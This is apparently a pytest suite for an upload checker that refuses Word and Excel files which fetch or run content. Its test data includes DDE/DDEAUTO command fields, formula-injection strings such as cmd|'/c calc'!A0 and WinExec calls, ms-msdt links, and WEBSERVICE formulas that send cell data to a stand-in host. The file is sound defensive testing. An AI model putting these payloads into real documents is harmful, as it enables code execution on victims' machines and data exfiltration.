"""What an office document may not fetch, run or carry along, wherever in it that stands."""

from io import BytesIO

import pytest

from apps.core.exceptions import InvalidInputError
from apps.submissions.files import inspect_upload, office_parts
from tests.submissions.samples import EXCEL_MAIN, OFFICE, relationships, word

LINKS = "word/_rels/document.xml.rels"
PARTS = (
    "word/document.xml",
    "word/header1.xml",
    "word/footnotes.xml",
    "word/comments.xml",
    "word/settings.xml",
    "word/glossary/document.xml",
    "word/nama-lain.bin",
)
BEGIN = '<w:fldChar w:fldCharType="begin"/>'
SEPARATE = '<w:fldChar w:fldCharType="separate"/>'
END = '<w:fldChar w:fldCharType="end"/>'


def _text(body: str, part: str = "word/document.xml") -> bytes:
    return word({part: f"<w:document>{body}</w:document>"})


def _field(*pieces: str, rest: str = SEPARATE + "<w:t>hasil</w:t>" + END) -> str:
    return BEGIN + "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces) + rest


def _sheet(body: str, part: str = "xl/worksheets/sheet1.xml") -> bytes:
    return word({part: f"<worksheet>{body}</worksheet>"}, main=EXCEL_MAIN)


def _refused(name: str, content: bytes) -> str:
    with pytest.raises(InvalidInputError) as refused:
        inspect_upload(name, BytesIO(content))
    return refused.value.message


@pytest.mark.parametrize("part", PARTS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_field_that_runs_a_program_is_refused_in_every_part(part: str, encoding: str) -> None:
    content = word({part: f"<w:hdr>{_field('DDEAUTO cmd')}</w:hdr>".encode(encoding)})
    assert "memuat bidang (field) DDEAUTO" in _refused("a.docx", content)


@pytest.mark.parametrize(
    ("body", "field"),
    [
        (_field("DD", "EAU", "TO c:\\\\cmd.exe"), "DDEAUTO"),
        (_field(" ", "d", "de", " cmd", rest=END), "DDE"),
        (_field("&#68;DE cmd"), "DDE"),
        (_field("DD<x:y/>E cmd"), "DDE"),
        (_field("DDEAUTO cmd", rest=""), "DDEAUTO"),
        ("<w:instrText>DDEAUTO cmd</w:instrText>", "DDEAUTO"),
        ('<w:fldSimple w:instr=" ddeauto cmd"/>', "DDEAUTO"),
        (BEGIN + "<w:t>DDE cmd</w:t>" + END, "DDE"),
        (_field("DD") + "<w:instrText>x</w:instrText>" + _field("LINK Excel.Sheet.12 a.xlsx"), "LINK"),
        (BEGIN + "<w:delInstrText>AB</w:delInstrText><w:instrText>DDE cmd</w:instrText>" + END, "DDE"),
        (BEGIN + "<w:delInstrText>DDE cmd</w:delInstrText>" + END, "DDE"),
        (_field("IF 1=1 ", rest=_field("DDEAUTO cmd") + SEPARATE + END), "DDEAUTO"),
        (_field(rest=_field("QUOTE 68 68 69") + SEPARATE + END), "yang namanya disusun"),
        (
            _field("DD", rest="<mc:AlternateContent/><w:instrText>E cmd</w:instrText>" + END),
            "yang namanya disusun",
        ),
        *(
            (_field(f'{name} "{target}"'), name)
            for name in ("INCLUDEPICTURE", "INCLUDETEXT", "INCLUDE", "IMPORT", "RD")
            for target in ("http://jahat.example/a.png", "file:///C:/a", "\\\\10.0.0.1\\a")
        ),
        (_field("DATABASE \\d a.mdb"), "DATABASE"),
    ],
)
def test_a_field_is_known_however_it_is_written(body: str, field: str) -> None:
    assert f"memuat bidang (field) {field}" in _refused("a.docx", _text(body))


@pytest.mark.parametrize(
    "body",
    [
        _field('HYPERLINK "https://bawaslu.go.id/DDE"'),
        _field("TOC \\o", rest=SEPARATE + _field("PAGEREF _Toc1 \\h") + "<w:t>DDE</w:t>" + END),
        _field("PAGE") + "<w:t>DDEAUTO</w:t>",
        _field("IF ", rest=_field("MERGEFIELD Nama") + "<w:instrText> = 1</w:instrText>" + SEPARATE + END),
        '<w:fldSimple w:instr="NUMPAGES"/><w:t>INCLUDEPICTURE</w:t>',
        "<m:f><m:num><m:t>a|b</m:t></m:num></m:f>",
        "<mc:AlternateContent>" + _field("SEQ Tabel") + "</mc:AlternateContent>",
    ],
)
def test_ordinary_fields_and_words_are_taken(body: str) -> None:
    assert inspect_upload("a.docx", BytesIO(_text(body))).extension == "docx"


def test_what_lies_behind_a_document_is_refused_and_its_comment_is_not() -> None:
    whole = _text("<w:t>Laporan</w:t>")
    for tail in (b"Rar!\x1a\x07\x00" + bytes(40), b"%PDF-1.7 ...", b"x"):
        assert "isi lain di belakang dokumennya" in _refused("a.docx", whole + tail)
    comment = whole[:-2] + (5).to_bytes(2, "little") + b"Kantor"[:5]
    assert inspect_upload("a.docx", BytesIO(comment)).extension == "docx"


@pytest.mark.parametrize("part", PARTS)
@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ('<w:altChunk r:id="r0"/>', "memuat objek"),
        ('<w:object><o:OLEObject Type="Embed" r:id="r0"/></w:object>', "memuat objek"),
        ('<w:connectString w:val="Provider=x"/>', "mengambil data"),
        ('<w:subDoc r:id="r0"/>', "mengambil dokumen lain"),
        ('<wp15:webVideoPr embeddedHtml="&lt;iframe"/>', "mengambil video"),
    ],
)
def test_what_a_document_brings_in_is_refused_in_every_part(part: str, body: str, reason: str) -> None:
    assert reason in _refused("a.docx", _text(body, part))


@pytest.mark.parametrize(
    ("kind", "reason"),
    [
        ("aFChunk", "memuat objek"),
        ("oleObject", "memuat objek"),
        ("control", "memuat objek"),
        ("subDocument", "memuat objek"),
        ("webExtensionTaskpanes", "memuat objek"),
        ("vbaProject", "memuat makro"),
        ("xlMacrosheet", "memuat makro"),
        ("xlIntlMacrosheet", "memuat makro"),
        ("connections", "mengambil data"),
        ("queryTable", "mengambil data"),
    ],
)
@pytest.mark.parametrize("place", ["word/_rels/header1.xml.rels", "xl/_rels/workbook.xml.rels"])
def test_a_relationship_within_the_document_may_be_refused_too(kind: str, reason: str, place: str) -> None:
    name, main = ("a.docx", None) if place.startswith("word") else ("a.xlsx", EXCEL_MAIN)
    parts: dict[str, bytes | str] = {place: relationships((kind, "apa/saja.dat"), mode="Internal")}
    assert reason in _refused(name, word(parts, main=main) if main else word(parts))


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "externalLinkPath", "package", "apaSaja"])
def test_other_relationships_within_the_document_are_taken(kind: str) -> None:
    content = word({LINKS: relationships((kind, "media/a.png"), mode="Internal")})
    assert inspect_upload("a.docx", BytesIO(content)).extension == "docx"


@pytest.mark.parametrize(
    ("kind", "target", "what"),
    [
        ("mailMergeSource", "file:///C:/a.mdb", "data"),
        ("video", "film.mp4", "isi lain"),
        ("apaSaja", "C:\\a.dat", "isi lain"),
        ("externalLinkLongPath", "\\\\10.0.0.1\\Rekap.xlsx", "buku kerja lain"),
    ],
)
def test_only_links_lead_out_and_only_a_few_kinds_to_the_disk(kind: str, target: str, what: str) -> None:
    content = word({"word/_rels/footer2.xml.rels": relationships((kind, target))})
    assert f"mengambil {what} dari tempat lain" in _refused("a.docx", content)


@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)",
        "VBScript:a",
        "data:text/html,a",
        "file://10.0.0.1/bagi/a.exe",
        "\\\\server\\bagi\\a.exe",
        "file:%2F%2Fserver/a.exe",
        "ms-msdt:/id a",
        "search-ms:query=a",
    ],
)
def test_a_link_opens_a_page_or_a_mail_and_no_program_or_share(target: str) -> None:
    assert "memuat tautan yang bukan ke halaman web" in _refused(
        "a.docx", word({LINKS: relationships(("hyperlink", target))})
    )


def test_a_relationship_that_only_sounds_like_a_link_is_none() -> None:
    links = relationships(("hyperlink", "https://jahat.example/a"))
    assert inspect_upload("a.docx", BytesIO(word({LINKS: links}))).extension == "docx"
    other = links.replace("officeDocument/2006", "jahat/2006")
    assert "mengambil isi lain" in _refused("a.docx", word({LINKS: other}))


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://jahat.example/?"&amp;A1)',
        '_xlfn.WEBSERVICE ("http://jahat.example")',
        "1+_xlfn.WEBSERVICE<!-- -->(A1)",
        '_xlfn.IMAGE("http://jahat.example/a.png")',
        'RTD("a.b",,"c")',
        'CALL("Kernel32","WinExec","JC","calc",0)',
        'register.id("kernel32","WinExec")',
        'EXEC("calc")',
        'EVALUATE("1")',
        'DDE("soffice","a","b")',
        "cmd|'/c calc'!A0",
        "SUM(A1)+cmd|&apos;/c calc&apos;!A0",
        "'cmd|/c calc'!A0",
        "MSEXCEL|'\\..\\cmd.exe /c calc'!''",
        "'Kab.'!A1+cmd|'/c calc'!A0",
    ],
)
@pytest.mark.parametrize(
    ("element", "part"),
    [
        ("<row><c><f>{}</f></c></row>", "xl/worksheets/sheet1.xml"),
        ('<f t="shared" ref="A1:A9" si="0">{}</f>', "xl/worksheets/sheet2.xml"),
        ('<definedName name="a" hidden="1">{}</definedName>', "xl/workbook.xml"),
        ("<cfRule><formula>{}</formula></cfRule>", "xl/worksheets/sheet1.xml"),
        ("<dataValidation><formula1>{}</formula1></dataValidation>", "xl/worksheets/sheet1.xml"),
        ("<x14:formula2><xm:f>{}</xm:f></x14:formula2>", "xl/lain.dat"),
        ("<calculatedColumnFormula>{}</calculatedColumnFormula>", "xl/tables/table1.xml"),
    ],
)
def test_a_formula_that_runs_or_fetches_is_refused_wherever_it_stands(
    formula: str, element: str, part: str
) -> None:
    assert "memuat rumus" in _refused("a.xlsx", _sheet(element.format(formula), part))


@pytest.mark.parametrize(
    "body",
    [
        "<f>SUM(A1:A9)*IF(B1&gt;0,1,0)</f>",
        '<f>HYPERLINK("https://bawaslu.go.id","CALL(1)|EXEC(2)")</f>',
        "<f>'Kab | Kota'!A1+[1]Rekap!B2</f>",
        '<f>_xlfn.XLOOKUP(A1,B:B,C:C)&amp;" | "&amp;_xlfn.TEXTJOIN("|",TRUE,A1:A3)</f>',
        "<f>IFERROR(__xludf.DUMMYFUNCTION(&quot;IMPORTRANGE(&quot;&quot;x&quot;&quot;)&quot;),1)</f>",
        "<c><is><t>WEBSERVICE(1) cmd|'/c calc'!A0</t></is><v>1</v></c>",
        "<f>RECALL(1)+EXECS(2)</f>",
    ],
)
def test_ordinary_formulas_are_taken(body: str) -> None:
    assert inspect_upload("a.xlsx", BytesIO(_sheet(body))).extension == "xlsx"


@pytest.mark.parametrize(
    ("element", "what"),
    [('ddeLink ddeService="cmd" ddeTopic="/c calc"', "program lain"), ('oleLink progId="a"', "objek")],
)
def test_a_workbook_that_calls_a_program_is_refused_in_every_encoding(element: str, what: str) -> None:
    for encoding in ("utf-8", "utf-16"):
        link = f"<externalLink><{element}/></externalLink>".encode(encoding)
        content = word({"xl/externalLinks/externalLink1.xml": link}, main=EXCEL_MAIN)
        assert f"mengambil {what} dari tempat lain" in _refused("a.xlsx", content)


def test_a_workbook_may_name_another_one_on_the_disk_but_not_on_a_server() -> None:
    place = "xl/externalLinks/_rels/externalLink1.xml.rels"
    for target in ("Rekap%202023.xlsx", "file:///C:\\Data\\Rekap.xlsx"):
        parts: dict[str, bytes | str] = {place: relationships(("xlPathMissing", target))}
        assert inspect_upload("a.xlsx", BytesIO(word(parts, main=EXCEL_MAIN))).extension == "xlsx"
    content = word({place: relationships(("externalLinkPath", "\\\\srv\\Rekap.xlsx"))}, main=EXCEL_MAIN)
    assert "mengambil buku kerja lain" in _refused("a.xlsx", content)


def test_a_chart_brings_its_workbook_along_but_not_what_runs_in_it() -> None:
    chart = "word/embeddings/Sheet1.xlsx"
    assert inspect_upload("a.docx", BytesIO(word({chart: _sheet("<f>SUM(A1)</f>")}))).extension == "docx"
    assert "memuat rumus RTD" in _refused("a.docx", word({chart: _sheet("<f>RTD(1)</f>")}))


def test_a_document_type_and_broken_xml_are_refused_in_every_part() -> None:
    for broken in ('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "<a><b></a>", "<a/><a/>"):
        assert "bukan DOCX yang sah" in _refused("a.docx", word({"word/lain.xml": broken}))


def test_old_drawings_of_excel_that_are_no_sound_xml_are_taken() -> None:
    parts: dict[str, bytes | str] = {
        "xl/drawings/vmlDrawing1.vml": "<xml><br></xml>",
        "xl/media/image1.svg": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" ""><svg/>',
    }
    assert inspect_upload("a.xlsx", BytesIO(word(parts, main=EXCEL_MAIN))).extension == "xlsx"


def test_more_xml_than_is_read_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    content = _text("<w:t>" + "x" * 3000 + "</w:t>")
    monkeypatch.setattr(office_parts, "MAX_XML", 5000)
    assert inspect_upload("a.docx", BytesIO(content)).extension == "docx"
    monkeypatch.setattr(office_parts, "MAX_XML", 3000)
    assert "jauh terlalu besar" in _refused("a.docx", content)


def test_content_types_of_add_ins_are_refused() -> None:
    kinds = (f"{OFFICE}.oleObject", "application/vnd.ms-office.webextension+xml")
    for kind in kinds:
        assert "memuat objek" in _refused("a.docx", word(types=(kind,)))


@pytest.mark.parametrize(
    "content",
    [
        word({"xl/connections.xml": '<connection refreshOnLoad="1"/>'}, main=EXCEL_MAIN),
        word({"xl/queryTables/queryTable1.xml": "<queryTable/>"}, main=EXCEL_MAIN),
        word({"xl/a.xml": "<a/>"}, types=(f"{OFFICE}.spreadsheetml.connections+xml",), main=EXCEL_MAIN),
        word({"xl/a.xml": "<a/>"}, types=(f"{OFFICE}.spreadsheetml.queryTable+xml",), main=EXCEL_MAIN),
    ],
)
def test_a_source_of_data_is_refused_although_nothing_leads_there(content: bytes) -> None:
    assert "mengambil data dari tempat lain" in _refused("a.xlsx", content)
